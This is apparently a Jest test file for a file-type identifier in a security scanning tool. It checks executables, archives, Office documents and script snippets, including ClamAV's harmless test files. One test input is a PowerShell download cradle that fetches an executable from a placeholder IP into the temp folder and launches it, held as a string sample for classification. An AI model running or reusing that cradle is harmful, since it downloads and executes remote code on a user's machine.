import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { buildZip, minimalPe, seededBytes } from '../testing/samples';
import { FileKind, identify } from './identify';

const CLAMAV = '/usr/share/clamav-testfiles';
const text = (s: string) => new Uint8Array(Buffer.from(s, 'utf8'));

describe('identify: Debian clamav-testfiles', () => {
  const present = existsSync(join(CLAMAV, 'clam.exe'));
  if (!present) {
    it.skip(`${CLAMAV} is not installed (apt-get install clamav-testfiles)`, () => undefined);
    return;
  }
  const expected: [string, FileKind, RegExp | null][] = [
    ['clam.exe', 'pe', /^PE32 executable \(GUI\) Intel 80386$/],
    ['clam-upx.exe', 'pe', null],
    ['clam.zip', 'zip', /^Zip archive$/],
    ['clam.7z', '7z', null],
    ['clam.cab', 'cab', null],
    ['clam.exe.bz2', 'bzip2', null],
    ['clam.tar.gz', 'gzip', null],
    ['clam.pdf', 'pdf', null],
    ['clam.ole.doc', 'ole', null],
    ['clam.ppt', 'ole', null],
    ['clam.exe.rtf', 'rtf', null],
    ['clam.chm', 'chm', null],
    ['clam.arj', 'arj', null],
    ['clam.newc.cpio', 'cpio', null],
    ['clam.tnef', 'tnef', null],
    ['clam.exe.html', 'html', null],
    ['clam.mail', 'email', null],
  ];
  it.each(expected)('%s is %s', (file, kind, label) => {
    const identity = identify(readFileSync(join(CLAMAV, file)));
    expect(identity.kind).toBe(kind);
    if (label) expect(identity.label).toMatch(label);
  });
});

describe('identify: built samples', () => {
  it('PE executables and DLLs', () => {
    expect(identify(minimalPe())).toMatchObject({ kind: 'pe', label: 'PE32 executable (GUI) Intel 80386', extension: 'exe', isArchive: false });
    expect(identify(minimalPe({ dll: true }))).toMatchObject({ kind: 'pe', label: 'PE32 executable (DLL) (GUI) Intel 80386', extension: 'dll' });
  });

  it('a bare MZ header is an MS-DOS executable', () => {
    expect(identify(text('MZ this is not a PE'))).toMatchObject({ kind: 'pe', label: 'MS-DOS executable' });
  });

  it('ELF', () => {
    const elf = Buffer.alloc(64);
    elf.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
    elf.writeUInt16LE(2, 16); // ET_EXEC
    elf.writeUInt16LE(62, 18); // x86-64
    expect(identify(elf)).toMatchObject({ kind: 'elf', label: 'ELF 64-bit LSB executable, x86-64' });
    elf.writeUInt16LE(3, 16); // ET_DYN
    expect(identify(elf)).toMatchObject({ kind: 'elf', extension: 'so' });
  });

  it('LNK', () => {
    const lnk = Buffer.alloc(76);
    lnk.set([0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]);
    expect(identify(lnk)).toMatchObject({ kind: 'lnk', label: 'MS Windows shortcut (LNK)' });
  });

  it('OOXML: docx, docm, xlsx by their ZIP central directory', () => {
    const types = { name: '[Content_Types].xml', data: '<?xml version="1.0"?><Types/>' };
    const docx = buildZip([types, { name: 'word/document.xml', data: '<w:document/>' }]);
    const docm = buildZip([types, { name: 'word/document.xml', data: '<w:document/>' }, { name: 'word/vbaProject.bin', data: 'macro' }]);
    const xlsx = buildZip([types, { name: 'xl/workbook.xml', data: '<workbook/>' }]);
    expect(identify(docx)).toMatchObject({ kind: 'ooxml', extension: 'docx', label: 'Microsoft Word 2007+' });
    expect(identify(docm)).toMatchObject({ kind: 'ooxml', extension: 'docm', label: 'Microsoft Word 2007+ (macro-enabled)' });
    expect(identify(xlsx)).toMatchObject({ kind: 'ooxml', extension: 'xlsx' });
    expect(identify(buildZip([{ name: 'notes.txt', data: 'hello' }]))).toMatchObject({ kind: 'zip', isArchive: true });
  });

  it.each<[string, string, FileKind]>([
    ['PowerShell download cradle', '$url = "http://192.0.2.1/a"\n$client = New-Object System.Net.WebClient\n$client.DownloadFile($url, "$env:TEMP\\a.exe")\nStart-Process "$env:TEMP\\a.exe"\n', 'powershell'],
    ['PowerShell with cmdlets only', 'param([string]$Path)\n$items = Get-ChildItem -Path $Path\nforeach ($i in $items) { Write-Output $i.Name }\n', 'powershell'],
    ['VBScript', 'Dim objShell\nSet objShell = CreateObject("WScript.Shell")\nobjShell.Run "notepad.exe"\nWScript.Echo "done"\n', 'vbscript'],
    ['JScript', 'var sh = new ActiveXObject("WScript.Shell");\nfunction run(cmd) {\n  sh.Run(cmd, 0);\n}\nrun("notepad.exe");\n', 'javascript'],
    ['batch', '@echo off\nsetlocal\nset TARGET=%TEMP%\\x\nif exist "%TARGET%" goto done\nmkdir "%TARGET%"\n:done\necho ok\n', 'batch'],
    ['shell with shebang', '#!/bin/sh\nset -e\necho "hello"\n', 'shell'],
    ['env bash', '#!/usr/bin/env bash\necho hi\n', 'shell'],
    ['python', 'import os\n\ndef main():\n    print(os.getcwd())\n\nif __name__ == "__main__":\n    main()\n', 'python'],
    ['HTA', '<html>\n<head>\n<HTA:APPLICATION ID="setup" APPLICATIONNAME="Setup" />\n<script language="VBScript">\nSub Window_OnLoad\nEnd Sub\n</script>\n</head>\n<body></body>\n</html>\n', 'hta'],
    ['HTML', '<!DOCTYPE html>\n<html lang="en">\n<head><title>Hello</title></head>\n<body><p>Hello, world.</p></body>\n</html>\n', 'html'],
    ['plain text', 'Meeting notes\n\nWe agreed to ship the release on Friday. Alice will update the changelog;\nBob reviews the documentation.\n', 'text'],
  ])('%s', (_label, source, kind) => {
    expect(identify(text(source)).kind).toBe(kind);
  });

  it('UTF-16 text with a byte-order mark', () => {
    expect(identify(new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('hello world', 'utf16le')])))).toMatchObject({ kind: 'text', label: 'Text (UTF-16)' });
  });

  it('empty and random data', () => {
    expect(identify(new Uint8Array(0))).toMatchObject({ kind: 'empty', label: 'Empty file' });
    expect(identify(seededBytes(4096, 42))).toMatchObject({ kind: 'data', label: 'Data', mime: 'application/octet-stream' });
  });
});
